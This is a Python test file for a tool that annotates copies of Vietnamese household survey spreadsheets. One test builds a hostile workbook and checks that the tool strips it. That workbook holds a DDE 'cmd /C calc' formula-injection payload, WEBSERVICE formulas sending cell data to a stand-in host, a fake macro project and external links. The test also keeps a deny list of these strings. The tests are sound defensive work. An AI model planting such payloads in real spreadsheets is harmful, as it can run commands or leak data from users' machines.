"""Annotated copies: every problem at its cell, the original untouched, what is lost said."""

from __future__ import annotations

import hashlib
import io
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import xlsxwriter
from msoffcrypto.format.ooxml import OOXMLFile
from openpyxl.comments import Comment

from bench.mutations import edited
from hongheo.errors import UsageError
from hongheo.models import Place
from hongheo.pipeline import Options, Result, check
from hongheo.problems import Personal, Problem, kinds
from hongheo.write import CannotAnnotate, annotate, copy_names
from tests.conftest import MakeReturn, b1, b2, household
from tests.write.workbooks import INJECTIONS, parts, sheet_xml

BAD = {"households": [household("0001", size="4 người")], "b1": [b1("0001", 150)], "b2": [b2("0001", 1)]}
FIRST = 6  # row of the first problem on the sheet Lỗi


def problem(cell: str | None = "H4", sheet: str | None = "Hộ", text: object = "bốn", **more: Any) -> Problem:
    place = Place("a.xlsx", sheet, int(cell[1:]) if cell else None, cell[0] if cell else None)
    return Problem(kinds.NOT_WHOLE, place, {"field": "Số nhân khẩu", "value": text}, **more)


def copied(source: Path, target: Path, *problems: Problem, **more: Any) -> Any:
    annotate(source, target, problems, **more)
    return openpyxl.load_workbook(target)


def book(path: Path, *names: str) -> Path:
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.worksheets[0])
    for name in names or ("Hộ",):
        workbook.create_sheet(name)["H4"] = "bốn"
    workbook.save(path)
    return path


def test_o_sai_duoc_to_mau_ghi_chu_va_noi_toi(make_return: MakeReturn, tmp_path: Path) -> None:
    path = make_return(**BAD)
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    result = check([path], Options(), annotate_in=tmp_path / "ra")
    assert (result.outputs, result.out) == (["phieu.xlsx"], tmp_path / "ra")
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    copy = openpyxl.load_workbook(tmp_path / "ra" / "phieu.xlsx")
    assert copy.sheetnames[0] == "Lỗi" and copy.active.title == "Lỗi"
    assert [s.title for s in copy.worksheets if s.sheet_view.tabSelected] in ([], ["Lỗi"])
    cell = copy["Hộ"]["H4"]
    assert cell.value == "4 người" and cell.fill.fgColor.rgb == "00F8CBAD"
    assert cell.comment.text.startswith("HN101 Lỗi: «Số nhân khẩu» ghi «4 người»")
    assert "→ Ghi lại số nguyên" in cell.comment.text
    sheet = copy["Lỗi"]
    assert sheet["A1"].value == "CHƯA ĐẠT: 1 lỗi phải sửa, 0 cảnh báo nên xem lại."
    row = [c.value for c in sheet[FIRST]]
    assert row[:7] == [1, "Lỗi", "HN101", "Hộ", "H4", "28654/0001", "Số nhân khẩu"]
    assert sheet.cell(FIRST, 5).hyperlink.location == "'Hộ'!H4"
    assert sheet.cell(FIRST, 5).hyperlink.target is None
    # The copy is read where it is named; in a folder one that nobody has changed is no return of its own.
    named = check([tmp_path / "ra" / "phieu.xlsx"], Options()).report
    assert sorted(p.kind.code for p in named) == ["HN047", "HN101"]
    assert "HN101 Hộ!H4" in named.lines()
    with pytest.raises(UsageError, match="Không có tệp nào để đọc"):
        check([tmp_path / "ra"], Options())


def test_nhieu_loi_mot_o_va_ghi_chu_co_san(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook["Hộ"]["H4"].comment = Comment("Hỏi lại trưởng ấp", "xã")
    workbook.save(path)
    warning = Problem(kinds.B2_BLANK, Place("a.xlsx", "Hộ", 4, "H"))
    cell = copied(path, tmp_path / "b.xlsx", warning, problem())["Hộ"]["H4"]
    text = cell.comment.text
    assert text.startswith("Hỏi lại trưởng ấp\n\nHN101 Lỗi:")
    assert text.index("HN101") < text.index("HN210") and cell.fill.fgColor.rgb == "00F8CBAD"


def test_loi_khong_co_o_noi_toi_dong_hoac_trang(tmp_path: Path) -> None:
    row = Problem(kinds.ROWS_SET_ASIDE, Place("a.xlsx", "Hộ", 9), {"count": 1, "what": "dòng tổng"})
    whole = Problem(kinds.SHEET_MISSING, Place("a.xlsx"), {"sheet": "B1"})
    gone = problem(sheet="Không có trang này")
    sheet = copied(book(tmp_path / "a.xlsx"), tmp_path / "b.xlsx", row, problem(None), whole, gone)["Lỗi"]
    cells = [sheet.cell(FIRST + n, 5) for n in range(4)]
    assert [c.value for c in cells] == ["dòng 9", "xem", None, "H4"]
    assert [c.hyperlink and c.hyperlink.location for c in cells] == ["'Hộ'!A9", "'Hộ'!A1", None, None]


@pytest.mark.parametrize(
    ("names", "expected"),
    [(("Hộ", "Lỗi"), "Lỗi (2)"), (("Hộ", "LỖI", "lỗi (2)"), "Lỗi (3)"), (("Hộ'1",), "Lỗi")],
)
def test_ten_trang_loi_da_co(tmp_path: Path, names: tuple[str, ...], expected: str) -> None:
    copy = copied(book(tmp_path / "a.xlsx", *names), tmp_path / "b.xlsx", problem(sheet=names[0]))
    assert copy.sheetnames == [expected, *names]
    quoted = names[0].replace("'", "''")
    assert copy[expected].cell(FIRST, 5).hyperlink.location == f"'{quoted}'!H4"


def test_o_gop_duoc_ghi_chu_o_dau(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook["Hộ"].merge_cells("G3:H4")
    workbook.save(path)
    assert copied(path, tmp_path / "b.xlsx", problem())["Hộ"]["G3"].comment is not None


@pytest.mark.parametrize("text", INJECTIONS)
def test_chu_khong_thanh_cong_thuc(tmp_path: Path, text: str) -> None:
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(str(path), {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("Hộ")
        sheet.write_string("A1", text)
        sheet.write_formula("A2", "=SUM(B1:B2)", None, 3)
    copy = copied(path, tmp_path / "b.xlsx", problem(text=text, household=text))
    assert "<f>" not in sheet_xml(tmp_path / "b.xlsx")
    assert copy["Hộ"]["A2"].value == 3
    assert (copy["Hộ"]["A1"].value, copy["Hộ"]["A1"].data_type) == (text, "s")
    assert copy["Lỗi"].cell(FIRST, 6).value == text


def test_ten_nguoi_duoc_che(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    secret = problem(text=Personal("Nguyễn Văn Tám", "name"))
    for show in (False, True):
        copied(path, tmp_path / "b.xlsx", secret, show_values=show)
        everything = b"".join(parts(tmp_path / "b.xlsx").values()).decode("utf-8", "replace")
        assert ("Nguyễn Văn Tám" in everything) is show


def test_khong_cong_thuc_macro_lien_ket_nao_cua_phieu_duoc_chep(tmp_path: Path) -> None:
    """An officer's own file may hold anything; what goes on from here holds values."""
    plain, path = tmp_path / "p.xlsm", tmp_path / "a.xlsm"
    (tmp_path / "vbaProject.bin").write_bytes(b"khong phai macro that")
    with xlsxwriter.Workbook(str(plain), {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("Hộ")
        sheet.write_comment("H4", "Ghi chú cũ")
        sheet.write_formula("A1", "=SUM(B1:B2)", None, 3)
        sheet.write_formula("A2", "=cmd|'/C calc'!A0", None, "DDE")
        sheet.write_formula("A3", "='[sach-khac.xlsx]Trang'!A1", None, "khác")
        sheet.write_formula("A4", '=WEBSERVICE("http://vi-du.invalid/"&H4)', None, "")
        sheet.write_array_formula("A5:A6", "{=B1:B2*2}", None, 4)
        sheet.write_url("B1", "http://vi-du.invalid/", None, "bấm vào đây")
        sheet.write_url("B2", "external:khac.xlsx#Trang!A1", None, "tệp khác")
        sheet.write_url("B3", "internal:'Hộ'!A1", None, "ô kia")
        workbook.define_name("Ngoai", "='[sach-khac.xlsx]Trang'!$A$1")
        workbook.define_name("Tinh", '=WEBSERVICE("http://vi-du.invalid/")')
        workbook.define_name("O", "='Hộ'!$A$1")
        sheet.data_validation("C1", {"validate": "list", "source": "='Hộ'!$H$1:$H$9"})
        sheet.data_validation("C2", {"validate": "list", "source": ["Nam (1)", "Nữ"]})
        sheet.data_validation("C3", {"validate": "custom", "value": '=WEBSERVICE("http://vi-du.invalid")=1'})
        sheet.conditional_format("D1", {"type": "formula", "criteria": "=COUNTIF(A1:A9,A1)>1"})
        sheet.conditional_format("D2", {"type": "cell", "criteria": ">", "value": 5})
        sheet.conditional_format(
            "D3", {"type": "2_color_scale", "min_type": "formula", "min_value": "=MIN(A1)"}
        )
        sheet.add_table(
            "F1:G3", {"columns": [{"header": "Một"}, {"header": "Hai", "formula": "=SUM(A1:A2)"}]}
        )
        chart = workbook.add_chart({"type": "bar"})
        chart.add_series({"values": "='Hộ'!$A$1:$A$2"})
        sheet.insert_chart("J1", chart)
        workbook.add_vba_project(str(tmp_path / "vbaProject.bin"))
        workbook.set_properties({"author": "Người Lập", "company": "Cơ quan", "title": "Tên"})
        workbook.set_custom_property("noi", "C:/Users/nguoi-lap")
    # A link to another workbook, as Excel stores it.
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    part = "externalLinks/externalLink1.xml"
    more = {
        "xl/workbook.xml": (
            "</sheets>",
            '</sheets><externalReferences><externalReference r:id="rId77"/></externalReferences>',
        ),
        "xl/_rels/workbook.xml.rels": (
            "</Relationships>",
            f'<Relationship Id="rId77" Type="{office}/externalLink" Target="{part}"/></Relationships>',
        ),
        "[Content_Types].xml": (
            "</Types>",
            f'<Override PartName="/xl/{part}" ContentType="{kind}"/></Types>',
        ),
    }
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as out:
        for name in source.namelist():
            old, new = (text.encode() for text in more.get(name, ("", "")))
            out.writestr(name, source.read(name).replace(old, new) if old else source.read(name))
        main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
        link = f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
        out.writestr(f"xl/{part}", link)
    assert copy_names([path]) == ["a.xlsx"]
    copy = copied(path, tmp_path / "b.xlsx", problem())
    held = parts(tmp_path / "b.xlsx")
    everything = b"".join(held.values()).decode()
    for bad in (
        "<f>",
        "<f ",
        "vba",
        "macroEnabled",
        "externalLink",
        "ddeLink",
        "TargetMode",
        "cmd|",
        "[sach",
        "WEBSERVICE",
        "COUNTIF",
        "MIN(",
        "SUM(",
        "calculatedColumnFormula",
        "Người Lập",
        "Cơ quan",
        "Users",
    ):
        assert bad not in everything, bad
    assert not [
        n for n in held if re.search(r"chart|pivot|drawing\d|customX|external|media|query|connection", n)
    ]
    # Of the properties of the document only our own is left.
    assert re.findall(rb'name="(\w+)"', held["docProps/custom.xml"]) == [b"hongheo"]
    sheet = copy["Hộ"]
    assert [sheet[f"A{n}"].value for n in range(1, 7)] == [3, "DDE", "khác", None, 4, 0]
    assert [sheet[f"B{n}"].value for n in range(1, 4)] == ["bấm vào đây", "tệp khác", "ô kia"]
    assert sheet["B3"].hyperlink.location == "'Hộ'!A1"
    assert list(copy.defined_names) == ["O"]
    assert [str(v.sqref) for v in sheet.data_validations.dataValidation] == ["C1", "C2"]
    assert [str(area.sqref) for area in sheet.conditional_formatting] == ["D2"]
    assert sheet["H4"].comment.text.startswith("Ghi chú cũ\n\nHN101")
    said = copy["Lỗi"]["A3"].value
    assert said.startswith("Bản sao để xem; sửa ở tệp gốc.")
    for what in (
        "macro",
        "liên kết tới tệp khác",
        "công thức (",
        "biểu đồ",
        "đường dẫn ra ngoài",
        "tên tính",
    ):
        assert what in said, what


def test_noi_ro_cai_gi_khong_giu_duoc(tmp_path: Path) -> None:
    path = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(str(path), {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("Hộ")
        sheet.insert_textbox("A1", "hộp chữ")
        sheet.add_sparkline("B1", {"range": "C1:F1"})
        sheet.conditional_format("A1:A9", {"type": "data_bar", "data_bar_2010": True})
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("xl/diagrams/data1.xml", "<x/>")
        archive.writestr("xl/embeddings/oleObject1.bin", b"x")
    said = copied(path, tmp_path / "b.xlsx", problem())["Lỗi"]["A3"].value
    for what in ("SmartArt", "đối tượng nhúng (OLE)", "hình vẽ, hộp chữ", "biểu đồ nhỏ", "có điều kiện"):
        assert what in said
    plain = copied(book(tmp_path / "c.xlsx"), tmp_path / "d.xlsx", problem())["Lỗi"]["A3"].value
    assert "không có" not in plain


def test_cung_tep_cung_byte(tmp_path: Path) -> None:
    path = book(tmp_path / "a.xlsx")
    for name in ("b.xlsx", "c.xlsx"):
        annotate(path, tmp_path / name, [problem()])
    assert (tmp_path / "b.xlsx").read_bytes() == (tmp_path / "c.xlsx").read_bytes()


def test_hai_tep_cung_ten() -> None:
    files = [Path("a/x.xlsx"), Path("b/X.xlsx"), Path("c/x-2.xlsx"), Path("d/x.xlsx"), Path("y.xlsm")]
    assert copy_names(files) == ["x.xlsx", "X-2.xlsx", "x-2-2.xlsx", "x-3.xlsx", "y.xlsx"]


def names(result: Result) -> list[str]:
    return sorted(result.outputs)


def test_hai_tep_cung_ten_trong_mot_lan_chay(make_return: MakeReturn, tmp_path: Path) -> None:
    (tmp_path / "p" / "xa").mkdir(parents=True)
    sound = {**BAD, "households": [household("0001")]}
    first = make_return("p/a.xlsx", commune="28654", **BAD)
    make_return("p/b.xlsx", commune="28657", **sound)
    make_return("p/xa/a.xlsx", commune="28660", **BAD)
    result = check([tmp_path / "p"], Options(), annotate_in=tmp_path / "ra")
    assert names(result) == sorted(p.name for p in (tmp_path / "ra").iterdir()) == ["a-2.xlsx", "a.xlsx"]
    again = check([first], Options(), annotate_in=tmp_path / "ra")
    assert (again.outputs, "--force" in again.refused) == ([], True)
    assert names(check([first], Options(force=True), annotate_in=tmp_path / "ra")) == ["a.xlsx"]


@pytest.mark.parametrize("folder", ["p", "p/xa", "p/moi"])
def test_ban_sao_khong_duoc_lan_voi_phieu(make_return: MakeReturn, tmp_path: Path, folder: str) -> None:
    (tmp_path / "p" / "xa").mkdir(parents=True)
    path = make_return("p/xa/a.xlsx", **BAD)
    before = path.read_bytes()
    with pytest.raises(UsageError, match="--annotate"):
        check([tmp_path / "p"], Options(force=True), annotate_in=tmp_path / folder)
    assert path.read_bytes() == before


def test_tep_khong_ghi_chu_duoc_thi_noi(make_return: MakeReturn, tmp_path: Path) -> None:
    ods = Path(__file__).parents[1] / "read" / "files" / "c5.ods"
    broken = tmp_path / "hong.xlsx"
    broken.write_bytes(b"PK\x03\x04")
    locked = tmp_path / "khoa.xlsx"
    with locked.open("wb") as out:
        OOXMLFile(io.BytesIO(make_return("a.xlsx", **BAD).read_bytes())).encrypt("mk", out)
    options = Options(password=lambda _: "mk")
    result = check([ods, broken, locked], options, annotate_in=tmp_path / "ra")
    told = {Path(p.place.file).name: p.message() for p in result.report if p.kind is kinds.NOT_ANNOTATED}
    assert "chỉ ghi chú được vào tệp .xlsx và .xlsm" in told["c5.ods"]
    assert "không đọc được" in told["hong.xlsx"]
    assert "mật khẩu" in told["khoa.xlsx"]
    assert result.outputs == [] and not (tmp_path / "ra").exists()


def test_mot_tep_openpyxl_khong_mo_duoc(
    make_return: MakeReturn, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    paths = [make_return(f"{n}.xlsx", commune=n, **BAD) for n in ("28654", "28657")]
    real = annotate

    def refuse(source: Path, *rest: Any, **more: Any) -> None:
        if source.stem == "28654":
            raise CannotAnnotate("KeyError")
        real(source, *rest, **more)

    monkeypatch.setattr("hongheo.pipeline.annotating.annotate", refuse)
    result = check(paths, Options(), annotate_in=tmp_path / "ra")
    assert result.outputs == [p.name for p in (tmp_path / "ra").iterdir()] == ["28657.xlsx"]
    told = [p.kind.code for p in result.report if p.place.file == paths[0].as_posix()]
    assert "HN030" in told and "HN101" in told
    # What other communes have not sent is not the business of this one.
    assert "HN503" not in told
    lacking = [p.place.file for p in result.report if p.kind.code == "HN503"]
    assert lacking == [tmp_path.as_posix()]
    copy = openpyxl.load_workbook(tmp_path / "ra" / "28657.xlsx")
    assert [row[2].value for row in copy["Lỗi"].iter_rows(min_row=FIRST)] == ["HN101"]


def test_khong_co_gi_sai_thi_khong_ghi_gi(make_return: MakeReturn, tmp_path: Path) -> None:
    path = make_return(**{**BAD, "households": [household("0001")]})
    result = check([path], Options(), annotate_in=tmp_path / "ra")
    assert (result.outputs, result.exit_code, (tmp_path / "ra").exists()) == ([], 0, False)


def test_ky_tu_dieu_khien_khong_vao_ban_sao(make_return: MakeReturn, tmp_path: Path) -> None:
    """Found by bench.fuzz: openpyxl reads the escaped character and cannot write it."""
    path = make_return(**BAD)
    spoilt = edited(
        path.read_bytes(), {"xl/worksheets/sheet2.xml": lambda x: x.replace(b"Kinh", b"Kinh_x0001_")}
    )
    path.write_bytes(spoilt)
    result = check([path], Options(), annotate_in=tmp_path / "ra")
    (copy,) = (tmp_path / "ra").glob("*")
    assert result.outputs == [copy.name]
    with zipfile.ZipFile(copy) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.endswith(".xml")]
    assert not any(b"\x01" in part for part in parts)
